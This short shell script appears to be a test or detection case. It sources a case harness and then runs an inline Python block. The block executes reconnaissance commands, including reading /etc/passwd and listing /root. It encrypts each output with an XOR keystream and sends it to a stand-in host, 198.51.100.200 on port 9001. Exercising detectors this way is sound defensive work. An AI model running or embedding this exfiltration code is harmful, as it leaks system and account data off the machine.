#!/bin/sh
. /opt/case/case.sh

python3 -c '
import hashlib, socket, subprocess, time
key = b"k" * 16
def seal(n, text): return bytes(a ^ b for a, b in zip(text, hashlib.shake_128(key + bytes([n])).digest(len(text))))
s = socket.create_connection(("198.51.100.200", 9001), 5)
for n, command in enumerate(["id", "uname -a", "cat /etc/passwd", "ps aux", "ls -la /root"]):
    out = subprocess.run(command, shell=True, capture_output=True).stdout
    s.sendall(len(out).to_bytes(4, "big") + seal(n, out)); time.sleep(0.4)'
took_place
